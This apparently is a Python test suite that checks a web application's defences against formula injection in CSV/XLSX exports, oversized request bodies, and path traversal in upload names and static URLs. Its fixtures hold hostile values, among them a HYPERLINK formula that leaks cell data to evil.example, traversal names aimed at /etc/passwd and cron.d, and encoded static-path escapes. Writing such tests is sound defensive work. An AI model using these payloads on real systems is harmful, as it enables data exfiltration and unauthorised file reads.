"""Hostile input (issue #9), on both backends: formula injection in every export, oversized
bodies, and path tricks in file names and static addresses.

- Every CSV/XLSX export route is found by walking the application (a GET route taking a
  `format` parameter, or a path ending in .csv/.xlsx) and fetched with hostile values seeded in
  the data it shows: no cell may reach a spreadsheet as a formula. A new export that this file
  does not know fails the walk until it is added.
- Bodies above the configured limits get 413 — declared (Content-Length) or chunked — with the
  translated error, and the application stops reading them at the limit.
- Uploaded file names are reduced to a plain last component before they are kept or offered
  back; nothing is written outside the data directory; downloads name files the RFC 6266 way.

CSRF, session fixation and open redirects are tested in test_auth.py; docs/security.md lists
where each class of hostile input is tested.
"""

from __future__ import annotations

import csv
import io
import json
import re
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlmodel import func, select

from backend.spreadsheets import FORMULA_TRIGGERS
from tests.conftest import login

# --- formula injection ------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
PLUS = "+1"
MINUS = "-2"
AT = "@SUM(A1:A9)"
PROBES = (HYPERLINK, PLUS, MINUS, AT)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def formula_problems(label: str, content: bytes, fmt: str) -> list[str]:
    """Return the cells of an export that a spreadsheet would run as formulas."""
    problems = []
    if fmt == "xlsx":
        for cell in xlsx_cells(content):
            if cell.data_type == "f":
                problems.append(f"{label}: {cell.coordinate} is a formula: {cell.value!r}")
            elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                problems.append(f"{label}: {cell.coordinate} starts like one: {cell.value!r}")
    else:
        for cell in csv_cells(content):
            # A plain number written as such ("-3") is a number to a spreadsheet, not a formula.
            if cell.startswith(FORMULA_TRIGGERS) and not is_number(cell):
                problems.append(f"{label}: cell {cell!r} would run as a formula")
    return problems


def text_of(content: bytes, fmt: str) -> set[str]:
    if fmt == "xlsx":
        return {str(c.value) for c in xlsx_cells(content) if c.value is not None}
    return set(csv_cells(content))


@dataclass
class HostileWorld:
    unit: object
    campaign: object
    planner: object
    auditor: object
    profile: object


@pytest.fixture
def hostile_world(session, settings, org, make_user) -> HostileWorld:
    """Data whose text a spreadsheet would run, put in through the services as a user could."""
    from backend.org import service as org_service
    from backend.org.service import EmployeeInput
    from competency_framework import service as campaigns
    from competency_framework import service as competency_service
    from competency_framework.training.service import ActivityInput, TargetInput, save_activity
    from tests.competency.helpers import principal_for
    from tests.reporting_helpers import file_report, ready_channel

    unit = org_service.create_unit(
        session,
        code='DEL/"Q"\\1',  # quotes and separators: the export's file name must stay whole
        name=HYPERLINK,
        kind="delegation",
        region=AT,
        state=PLUS,
    )
    position = org_service.create_position(
        session,
        code="P-EVIL",
        title=MINUS,
        unit=unit,
        role_code="procurement_officer",
        planned_headcount=4,
    )
    people = [
        org_service.create_employee(
            session,
            EmployeeInput(
                number=f"H{n}",
                first_name=first,
                last_name=last,
                email=f"hostile{n}@example.org",
                unit_id=unit.id,
                position_id=position.id,
                hire_date=date(2012, 1, 9),
                birth_date=date(1966, 2, 1),
            ),
        )
        for n, (first, last) in enumerate(
            [(PLUS, AT), (MINUS, HYPERLINK), (AT, PLUS), (HYPERLINK, MINUS), ("Eva", AT)]
        )
    ]
    planner = make_user("hr_planner", employee=org.officer_a)  # also has "my competencies"
    hr = principal_for(session, make_user("hr_planner"))
    for person in [*people, org.officer_a, org.officer_b]:
        for code, level in (("legal", 1), ("negotiation", 1), ("financial", 2)):
            competency_service.record_rating(
                session,
                employee=person,
                competency=competency_service.get_competency(session, code),
                level=level,
                source="hr",
                actor=hr,
                note=AT,
            )
    save_activity(
        session,
        data=ActivityInput(
            code="evil_course",
            title_es=HYPERLINK,
            title_en=HYPERLINK,
            modality="classroom",
            provider=AT,
            hours=8,
            cost=100,
            targets=[TargetInput("legal", 0, 3)],
        ),
        actor=None,
    )
    campaign = campaigns.create_campaign(
        session,
        name=HYPERLINK,
        deadline=date.today() + timedelta(days=30),
        unit_ids=[unit.id],
        role_codes=[],
        include_subunits=True,
        actor=planner,
    )
    # A self-assessment in the validation queue, from someone whose name is a formula.
    rater = principal_for(session, make_user(employee=people[1]))
    competency_service.submit_self_assessment(
        session,
        employee=people[1],
        ratings={"legal": competency_service.SelfRating(level=2, note=AT)},
        actor=rater,
    )
    # A role profile version whose reason is one.
    profile = next(
        p for p in competency_service.list_profiles(session) if p.role_code == "procurement_officer"
    )
    competency_service.save_profile(
        session, profile=profile, requirements={"legal": (4, "essential")}, reason=HYPERLINK,
        actor=planner,
    )  # fmt: skip
    session.commit()
    ready = ready_channel(session, settings, make_user)
    ready.channel.name_en = HYPERLINK
    ready.channel.name_es = HYPERLINK
    session.add(ready.channel)
    session.commit()
    for _ in range(5):
        file_report(session, settings, ready.channel.id)
    return HostileWorld(unit, campaign, planner, make_user("auditor"), profile)


@dataclass(frozen=True)
class Export:
    """How to fetch one export route: who may, the address, the formats, what it must show."""

    who: str  # "planner" or "auditor"
    url: str  # with {unit}, {employee}, {campaign} and {fmt} to fill
    formats: tuple[str, ...] = ("csv", "xlsx")
    # Seeded text that reaches this export (escaped): proves the check below can fail.
    shows: tuple[str, ...] = ()


ALL = (HYPERLINK, PLUS, MINUS, AT)
EXPORTS: dict[str, list[Export]] = {
    "/competencies/me": [Export("planner", "/competencies/me?format={fmt}")],
    "/competencies/people/{employee_id}": [
        Export("planner", "/competencies/people/{employee}?format={fmt}")
    ],
    "/competencies/gaps": [
        Export("planner", "/competencies/gaps?format={fmt}", shows=(AT,)),
        Export("planner", "/competencies/gaps?group=unit&format={fmt}", shows=(HYPERLINK,)),
    ],
    "/competencies/gaps/units/{unit_id}": [
        Export("planner", "/competencies/gaps/units/{unit}?format={fmt}"),
        Export("planner", "/competencies/gaps/units/{unit}?table=people&format={fmt}", shows=ALL),
    ],
    "/competencies/gaps/trend": [Export("planner", "/competencies/gaps/trend?format={fmt}")],
    "/competencies/attention": [
        Export(
            "planner",
            "/competencies/attention?table=critical&format={fmt}",
            shows=(HYPERLINK, AT),
        ),
        Export("planner", "/competencies/attention?table=spof&format={fmt}", shows=(HYPERLINK,)),
    ],
    "/competencies/profiles": [Export("planner", "/competencies/profiles?format={fmt}")],
    "/competencies/profiles/{profile_id}": [
        Export(
            "planner",
            "/competencies/profiles/{profile}?table=versions&format={fmt}",
            shows=(HYPERLINK,),
        ),
        Export("planner", "/competencies/profiles/{profile}?table=requirements&format={fmt}"),
    ],
    "/competencies/campaigns": [
        Export("planner", "/competencies/campaigns?format={fmt}", shows=(HYPERLINK,))
    ],
    "/competencies/validation": [
        Export("planner", "/competencies/validation?format={fmt}", shows=(HYPERLINK, MINUS))
    ],
    "/competencies/campaigns/{campaign_id}": [
        Export("planner", "/competencies/campaigns/{campaign}?format={fmt}", shows=(HYPERLINK,))
    ],
    "/competencies/workforce": [
        Export("planner", "/competencies/workforce?format={fmt}", shows=(HYPERLINK, AT))
    ],
    "/competencies/workforce/units/{unit_id}": [
        Export("planner", "/competencies/workforce/units/{unit}?format={fmt}", shows=(MINUS,))
    ],
    "/training/catalogue": [
        Export("planner", "/training/catalogue?format={fmt}", shows=(HYPERLINK, AT))
    ],
    "/training/needs": [Export("planner", "/training/needs?format={fmt}", shows=(HYPERLINK, AT))],
    "/training/effect": [Export("planner", "/training/effect?format={fmt}")],
    "/cases/statistics.csv": [
        Export("auditor", "/cases/statistics.csv", formats=("csv",), shows=(HYPERLINK,))
    ],
    "/cases/statistics.xlsx": [
        Export("auditor", "/cases/statistics.xlsx", formats=("xlsx",), shows=(HYPERLINK,))
    ],
    "/org/employees/export": [
        Export(
            "planner",
            "/org/employees/export?format={fmt}",
            formats=("csv", "csv-semicolon", "xlsx"),
            shows=ALL,
        )
    ],
    # Import sheets to fill in: headers only, but files all the same.
    "/competencies/ratings/import": [
        Export("planner", "/competencies/ratings/import?template=1", formats=("xlsx",))
    ],
    "/training/manage/import": [
        Export("planner", "/training/manage/import?template=1", formats=("xlsx",))
    ],
    "/org/employees/import/template": [
        Export("planner", "/org/employees/import/template?format={fmt}&lang=es")
    ],
    # An import run's problem and change lists: fetched below, from a run with hostile cells.
    "/org/employees/import/runs/{run_id}/problems": [],
    "/org/employees/import/runs/{run_id}/changes": [],
}


def export_routes(app) -> set[str]:
    """Return the paths of the GET routes that answer with a CSV or XLSX file."""
    from tests.integration.test_authorization_matrix import api_routes

    found = set()
    for route in api_routes(app):
        if "GET" not in route.methods:
            continue
        names = {p.name for p in route.dependant.query_params}
        if "format" in names or "template" in names or route.path.endswith((".csv", ".xlsx")):
            found.add(route.path)
    return found


def test_every_export_is_known_to_the_walk(app):
    assert export_routes(app) == set(EXPORTS), (
        "an export route is missing from EXPORTS (or one was removed): add it with the hostile "
        "values it shows"
    )


def test_no_export_lets_a_cell_run_as_a_formula(client, session, org, hostile_world):
    tokens = {}
    for who in ("planner", "auditor"):
        client.cookies.clear()
        tokens[who] = (login(client, getattr(hostile_world, who).email), dict(client.cookies))
    problems: list[str] = []
    fetched = 0
    for exports in EXPORTS.values():
        for export in exports:
            client.cookies.clear()
            client.cookies.update(tokens[export.who][1])
            for fmt in export.formats:
                url = export.url.format(
                    fmt=fmt,
                    unit=hostile_world.unit.id,
                    employee=org.officer_a.id,
                    campaign=hostile_world.campaign.id,
                    profile=hostile_world.profile.id,
                )
                response = client.get(url)
                fetched += 1
                if response.status_code != 200:
                    problems.append(f"{url}: {response.status_code}")
                    continue
                kind = "xlsx" if fmt == "xlsx" else "csv"
                problems += formula_problems(url, response.content, kind)
                cells = text_of(response.content, kind)
                for probe in export.shows:
                    if not any(probe in cell for cell in cells):
                        problems.append(f"{url}: the seeded {probe!r} does not appear")
                disposition = response.headers.get("content-disposition", "")
                if not disposition.startswith("attachment; filename=") or "/" in disposition:
                    problems.append(f"{url}: Content-Disposition {disposition!r}")
    # The import check's problem report echoes the file's cells back: as text, too.
    client.cookies.clear()
    client.cookies.update(tokens["planner"][1])
    from backend.org import spreadsheet

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(spreadsheet.header_row("en"))
    writer.writerow([HYPERLINK, AT, PLUS])
    rows = buffer.getvalue()
    report = client.post(
        "/org/employees/import",
        data={"action": "report", "csrf_token": tokens["planner"][0]},
        files={"file": ("people.csv", rows.encode(), "text/csv")},
    )
    assert report.status_code == 200, report.text[:300]
    problems += formula_problems("import problems", report.content, "csv")
    assert any(HYPERLINK in cell for cell in csv_cells(report.content))
    problems += run_export_problems(client, tokens["planner"][0])
    fetched += 4
    assert fetched >= 2 * len(EXPORTS)
    assert problems == [], "\n".join(problems)


def run_export_problems(client, csrf: str) -> list[str]:
    """Upload a file with hostile cells through the mapping step; check its two lists."""
    from backend.org import spreadsheet
    from backend.org.service import imports

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(spreadsheet.header_row("en"))
    writer.writerow(["N9", HYPERLINK, AT, "", "DA", "", "", "2024-01-01", "", "", ""])
    writer.writerow([PLUS, MINUS, HYPERLINK, AT, "DA", "", "", "2024-01-01", "", "", ""])
    upload = client.post(
        "/org/employees/import/runs",
        data={"csrf_token": csrf},
        files={"file": ("people.csv", buffer.getvalue().encode(), "text/csv")},
        follow_redirects=False,
    )
    page = upload.headers["location"]
    fields = {f"field-{i}": c for i, c in enumerate(spreadsheet.COLUMNS)}
    client.post(f"{page}/mapping", data={"csrf_token": csrf, **fields})
    imports.wait(int(page.rsplit("/", 1)[1]))
    found: list[str] = []
    for name in ("problems", "changes"):
        for kind in ("csv", "xlsx"):
            response = client.get(f"{page}/{name}?format={kind}")
            assert response.status_code == 200, response.text[:300]
            found += formula_problems(f"import run {name}", response.content, kind)
            if not any(HYPERLINK in cell for cell in text_of(response.content, kind)):
                found.append(f"import run {name} ({kind}): the seeded text does not appear")
    return found


# --- oversized bodies -------------------------------------------------------------------------


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes
    chunks_read: int


def call_asgi(app, method: str, path: str, headers: dict[str, str], chunks) -> Answer:
    """Send one request straight to the application, handing it the body one chunk at a time
    (as a server does with a chunked or slow upload); count the chunks it asked for."""
    import asyncio

    source = iter(chunks)
    state = {"read": 0, "done": False}
    sent: list[dict] = []

    async def receive() -> dict:
        if state["done"]:
            await asyncio.sleep(3600)  # the client waits; the app must not need more
        try:
            chunk = next(source)
        except StopIteration:
            state["done"] = True
            return {"type": "http.request", "body": b"", "more_body": False}
        state["read"] += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message: dict) -> None:
        sent.append(message)

    raw_path, _sep, query = path.partition("?")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": unquote(raw_path),
        "raw_path": raw_path.encode(),
        "query_string": query.encode(),
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    # In a thread of its own: the browser tests' Playwright keeps an event loop running in
    # this thread for the whole session, and asyncio.run() refuses to nest in it.
    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(asyncio.run, asyncio.wait_for(app(scope, receive, send), timeout=60)).result()
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return Answer(
        start["status"],
        {k.decode().lower(): v.decode() for k, v in start["headers"]},
        body,
        state["read"],
    )


CHUNK = 64 * 1024


def stream(total: int, piece: bytes = b"x"):
    """Yield `total` bytes in CHUNK-sized chunks, lazily."""
    sent = 0
    while sent < total:
        size = min(CHUNK, total - sent)
        yield piece * size
        sent += size


def multipart_stream(total: int, boundary: str = "merito-hostile"):
    """Yield a multipart form with one file of `total` bytes, lazily."""
    yield (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; '
        f'filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n'
    ).encode()
    yield from stream(total)
    yield f"\r\n--{boundary}--\r\n".encode()


KINDS = {
    "form": ("/login", "application/x-www-form-urlencoded", lambda n: stream(n)),
    "json": ("/api/v1/employees", "application/json", lambda n: stream(n, b" ")),
    "upload": (
        "/report/new",
        "multipart/form-data; boundary=merito-hostile",
        lambda n: multipart_stream(n),
    ),
}


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_body_declared_too_large_is_refused_without_reading_it(app, settings, kind):
    path, content_type, body = KINDS[kind]
    limit = (
        settings.max_request_bytes if kind == "upload" else settings.max_request_bytes_without_files
    )
    answer = call_asgi(
        app,
        "POST",
        path,
        {
            "Content-Type": content_type,
            "Content-Length": str(limit + 1),
            "Accept-Language": "es",
            "Host": "testserver",
        },
        body(limit + 1),
    )
    assert answer.status == 413
    assert answer.chunks_read == 0
    if kind == "json":
        error = json.loads(answer.body)["error"]
        assert error["code"] == "too_large" and error["status"] == 413
        assert "demasiado grande" in error["message"]
    else:
        assert "demasiado grande" in answer.body.decode()
        assert answer.headers["content-language"] == "es"


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_a_chunked_body_is_cut_off_at_the_limit(app, settings, session, kind):
    from whistleblowing.models import Report

    settings.max_request_bytes = 512 * 1024
    settings.max_request_bytes_without_files = 256 * 1024
    path, content_type, body = KINDS[kind]
    limit = (
        settings.max_request_bytes if kind == "upload" else settings.max_request_bytes_without_files
    )
    # No Content-Length: the size is known only by counting what arrives.
    answer = call_asgi(
        app,
        "POST",
        path,
        {"Content-Type": content_type, "Accept-Language": "en", "Host": "testserver"},
        body(50 * limit),
    )
    assert answer.status == 413, answer.body[:300]
    assert b"too large" in answer.body
    # It stopped asking for the body within a chunk or two of the limit.
    assert answer.chunks_read * CHUNK <= limit + 2 * CHUNK
    assert session.exec(select(func.count()).select_from(Report)).one() == 0


def test_huge_forms_json_attachments_and_imports_get_413_and_write_nothing(
    client, session, settings, org, make_user
):
    from backend.org.models import Employee
    from tests.reporting_helpers import ready_channel, report_form_data, submit_via_client
    from whistleblowing.models import Report

    planner = make_user("hr_planner")
    csrf = login(client, planner.email)
    employees = session.exec(select(func.count()).select_from(Employee)).one()
    big_text = "x" * (settings.max_request_bytes_without_files + 1)
    form = client.post(
        "/account/password?lang=es",
        data={"current": big_text, "new": "a", "confirm": "a", "csrf_token": csrf},
    )
    assert form.status_code == 413 and "demasiado grande" in form.text
    fragment = client.post(
        "/account/password",
        data={"current": big_text, "csrf_token": csrf},
        headers={"HX-Request": "true"},
    )
    assert fragment.status_code == 413 and "<html" not in fragment.text
    assert "too large" in fragment.text
    document = client.post(
        "/api/v1/employees",
        json={"first_name": big_text},
        headers={"X-CSRF-Token": csrf},
    )
    assert document.status_code == 413
    assert document.json()["error"]["code"] == "too_large"
    settings.max_request_bytes = 1024 * 1024
    sheet = "number,first_name\r\n" + "E9,Ana\r\n" * 200_000
    imported = client.post(
        "/org/employees/import",
        data={"action": "import", "csrf_token": csrf},
        files={"file": ("people.csv", sheet.encode(), "text/csv")},
    )
    assert imported.status_code == 413
    session.expire_all()
    assert session.exec(select(func.count()).select_from(Employee)).one() == employees
    ready = ready_channel(session, settings, make_user)
    client.cookies.clear()
    report = submit_via_client(
        client,
        report_form_data(ready.channel.id),
        files=[("files", ("evidence.txt", b"a line\n" * 200_000, "text/plain"))],
    )
    assert report.status_code == 413
    assert session.exec(select(func.count()).select_from(Report)).one() == 0


# --- file names and paths ---------------------------------------------------------------------

HOSTILE_NAMES = [
    ("../../../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
    ("/etc/cron.d/evil.txt", "evil.txt"),
    ("C:\\Users\\ana\\Desktop\\notas.txt", "notas.txt"),
    ("fac\u202etxt.tura\u200b.txt", "factxt.tura.txt"),  # a bidirectional override, hidden space
    ("..txt", "txt"),  # no hidden files, no "." or ".."
    ("x" * 400 + ".txt", "x" * 116 + ".txt"),
    ('in"voice<2026>|?*.txt', "in_voice_2026____.txt"),
    ("Informe año 2026.txt", "Informe año 2026.txt"),
]


@pytest.mark.parametrize(("given", "kept"), HOSTILE_NAMES)
def test_an_uploaded_name_is_reduced_to_a_plain_last_component(given, kept):
    from backend.files import safe_filename

    assert safe_filename(given) == kept
    assert safe_filename("a\x00b\r\nc.pdf") == "abc.pdf"
    assert safe_filename("../..") == "file" and safe_filename("") == "file"


def test_a_download_names_its_file_the_rfc_6266_way():
    from backend.files import content_disposition

    value = content_disposition('Informe año/"2026"\r\n.pdf')
    fallback = re.search(r'filename="([^"]*)"', value).group(1)
    exact = unquote(re.search(r"filename\*=UTF-8''(\S+)", value).group(1))
    assert value.startswith("attachment; ")
    assert fallback == "Informe a_o__2026_.pdf" and exact == "Informe año__2026_.pdf"
    assert "\r" not in value and "\n" not in value


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def disposition_name(header: str) -> str:
    return unquote(re.search(r"filename\*=UTF-8''(\S+)", header).group(1))


def test_report_attachments_with_path_names_are_kept_under_plain_names_in_the_store(
    client, session, settings, make_user, tmp_path
):
    from tests.reporting_helpers import (
        anon_token,
        ready_channel,
        receipt_from,
        report_form_data,
        submit_via_client,
    )
    from whistleblowing.models import ReportAttachment

    ready = ready_channel(session, settings, make_user)
    before = files_under(tmp_path)
    receipts = []
    # ("..txt" becomes "txt": no extension, so it is refused as a disguised file; not here.)
    names = [(name, kept) for name, kept in HOSTILE_NAMES if kept.endswith(".txt")]
    for batch in (names[:5], names[5:]):
        files = [
            ("files", (name, f"contents of {kept}\n".encode(), "text/plain"))
            for name, kept in batch
        ]
        page = submit_via_client(client, report_form_data(ready.channel.id), files=files)
        assert page.status_code == 200, page.text[:300]
        receipts.append((receipt_from(page.text), batch))
    # Only ciphertext in the store, named by random ids; nothing anywhere else.
    written = files_under(tmp_path) - before
    store = settings.attachments_dir.resolve()
    outside = [p for p in written if store not in p.resolve().parents and p.suffix != ".db"]
    assert [p for p in outside if not p.name.startswith("merito.db")] == []
    assert all(re.fullmatch(r"[0-9a-f]{32}", p.name) for p in written if store in p.parents)
    assert len([p for p in written if store in p.parents]) == len(names)
    for receipt, batch in receipts:
        client.cookies.clear()
        client.post(
            "/report/follow-up", data={"receipt": receipt, "csrf_token": anon_token(client)}
        )
        session.expire_all()
        offered = {}
        for row in session.exec(select(ReportAttachment)).all():
            download = client.get(f"/report/case/attachments/{row.uid}")
            if download.status_code != 200:
                continue  # another report's file: not this receipt's
            header = download.headers["content-disposition"]
            assert header.startswith("attachment; filename=")
            fallback = re.search(r'filename="([^"]*)"', header).group(1)
            assert "/" not in fallback and "\\" not in fallback and ".." not in fallback
            offered[disposition_name(header)] = download.content
        assert offered == {kept: f"contents of {kept}\n".encode() for _name, kept in batch}


def test_a_training_certificate_named_like_a_path_is_stored_under_a_random_name(
    client, session, settings, org, make_user, tmp_path
):
    from competency_framework.training import service as training
    from tests.training.helpers import activity, session_of
    from tests.training.test_service import PDF

    course = activity(session, "records", {"legal": (0, 2)}, evidence="certificate")
    seat = session_of(session, course, capacity=5)
    enrolment = training.enrol_employee(
        session, training_session_id=seat.id, employee=org.officer_a, actor=None
    )
    session.commit()
    csrf = login(client, make_user("employee", employee=org.officer_a).email)
    before = files_under(tmp_path)
    # Written by hand: a client library would percent-encode the NUL; a hostile one does not.
    boundary = "merito-hostile"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n'
        f'{csrf}\r\n--{boundary}\r\nContent-Disposition: form-data; name="certificate"; '
        'filename="../../../../etc/cron.d/consta\x00ncia\u202e.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    )
    body = head.encode() + PDF + f"\r\n--{boundary}--\r\n".encode()
    done = client.post(
        f"/training/enrolments/{enrolment.id}/complete",
        content=body,
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
        follow_redirects=False,
    )
    assert done.status_code == 303, done.text[:300]
    session.expire_all()
    kept = session.get(type(enrolment), enrolment.id)
    assert kept.certificate_name == "constancia.pdf"
    written = [p for p in files_under(tmp_path) - before if not p.name.startswith("merito.db")]
    assert [p.parent for p in written] == [training.evidence_dir(settings)]
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", written[0].name)
    download = client.get(f"/training/enrolments/{enrolment.id}/certificate")
    assert download.status_code == 200 and download.content == PDF
    assert f'filename="certificate-{enrolment.id}.pdf"' in download.headers["content-disposition"]


@pytest.mark.parametrize(
    ("url", "name", "content_type"),
    [
        ("/org/employees/import", "../../../../tmp/people.csv", "text/csv"),
        ("/competencies/ratings/import", "..\\..\\ratings.xlsx", "application/octet-stream"),
        ("/training/manage/import", "/etc/catalogue.xlsx", "application/octet-stream"),
    ],
)
def test_an_import_named_like_a_path_writes_no_file(
    client, session, make_user, tmp_path, url, name, content_type
):
    csrf = login(client, make_user("hr_planner").email)
    before = files_under(tmp_path)
    response = client.post(
        url,
        data={"csrf_token": csrf, "action": "check"},
        files={"file": (name, b"number,first_name\r\n", content_type)},
    )
    assert response.status_code in (200, 422), response.text[:300]
    written = [p for p in files_under(tmp_path) - before if not p.name.startswith("merito.db")]
    assert written == []
    assert not Path(name.replace("\\", "/").rsplit("/", 1)[-1]).exists()


@pytest.mark.parametrize(
    "path",
    [
        "/static/../backend/config.py",
        "/static/%2e%2e/backend/config.py",
        "/static/..%2fbackend%2fconfig.py",
        "/static/%2e%2e%2f%2e%2e%2fbackend%2fconfig.py",
        "/static/css/../../../backend/config.py",
        "/static/..\\..\\backend\\config.py",
        "/static//etc/passwd",
        "/static/%2fetc%2fpasswd",
        "/static/../templates/base.html",
        "/static/css/%00.css",
    ],
)
def test_static_addresses_do_not_leave_the_static_folder(app, path):
    # Straight to the application, as a server hands it over: no client tidies the path first.
    answer = call_asgi(app, "GET", path, {"Host": "testserver"}, [])
    assert answer.status in (400, 404), (path, answer.status)
    assert b"class Settings" not in answer.body and b"root:" not in answer.body
    assert b"{% block" not in answer.body
